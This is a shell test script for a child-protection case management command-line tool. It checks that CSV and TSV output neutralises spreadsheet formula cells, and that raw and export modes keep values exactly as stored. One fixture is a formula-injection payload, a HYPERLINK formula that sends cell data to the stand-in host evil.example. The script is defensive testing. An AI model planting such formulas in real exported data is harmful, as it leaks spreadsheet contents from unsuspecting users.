#!/usr/bin/env bash
# Spreadsheet formula cells (README "Spreadsheets"): csv and tsv from reports, lists, show and log put
# a ' before a text cell beginning with = + - @ (tab, CR); --raw-cells leaves them; export never
# changes a value, so export -> import -> export gives the same bytes; json and table show them as stored.
source "$(dirname "$0")/lib.sh"

expect_rc 0 init -q
formula='=HYPERLINK("http://evil.example/?d="&A1,"click")'
expect_rc 0 add-child --given-names "$formula" --family-name '@SUM(1+1)' --dob 2019-04-02 --sex F
expect_rc 0 add-child --given-names '+44 7700' --family-name '-Smith' --dob 2018-01-01 --sex M
expect_rc 0 add-child --given-names 'Plain = text' --family-name 'Jones-Smith' --dob 2017-01-01 --sex M
expect_rc 0 open-plan C1 --template child-protection --category NEG --start 2026-09-01 --worker '=1+1' --team North

# lists and reports, csv: neutralised
expect_rc 0 list children -o csv
expect_out_has "C1,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"click\"\")\",'@SUM(1+1),2019-04-02"
expect_out_has "C2,'+44 7700,'-Smith,2018-01-01"
expect_out_has "C3,Plain = text,Jones-Smith,2017-01-01"
expect_rc 0 report register --as-of 2026-10-01 -o csv
expect_out_has "P1,2026-09-01,'=1+1,North"
# tsv too
expect_rc 0 list children -o tsv
expect_out_has "C2	'+44 7700	'-Smith	2018-01-01"
# show and log, csv
expect_rc 0 show C2 -o csv
expect_out_has "'-Smith"
expect_rc 0 log C1 -o csv
check "log -o csv leaves a raw formula" test -z "$(grep -F ',=HYPERLINK' <<<"$OUT")"

# --raw-cells: as stored
expect_rc 0 --raw-cells list children -o csv
expect_out_has "C2,+44 7700,-Smith,2018-01-01"
expect_rc 0 list children -o csv --raw-cells
expect_out_has "C1,\"=HYPERLINK("
# numbers are never text cells: a negative day count stays a number
ICSCTL_TODAY=2026-12-07 expect_rc 0 report reviews-due --as-of 2026-12-07 -o csv
expect_out_has "P1,C1,\"'=HYPERLINK("
expect_out_has ",2026-12-01,-6,overdue"
# json and table show what is stored
expect_rc 0 list children -o json
expect_out_has '"family_name":"-Smith"'
expect_rc 0 list children
check "table output neutralised a cell" test -z "$(grep -F "'-Smith" <<<"$OUT")"

# export: values as stored; export -> import -> export gives the same bytes
expect_rc 0 export children -o csv
expect_out_has "C2,+44 7700,-Smith,2018-01-01"
printf '%s\n' "$OUT" >first.csv
ICSCTL_DB=$PWD/again.db expect_rc 0 init -q
ICSCTL_DB=$PWD/again.db expect_rc 0 import children first.csv
ICSCTL_DB=$PWD/again.db expect_rc 0 export children -o csv
printf '%s\n' "$OUT" >again.csv
check "export -> import -> export differs for formula cells" cmp -s first.csv again.csv

finish
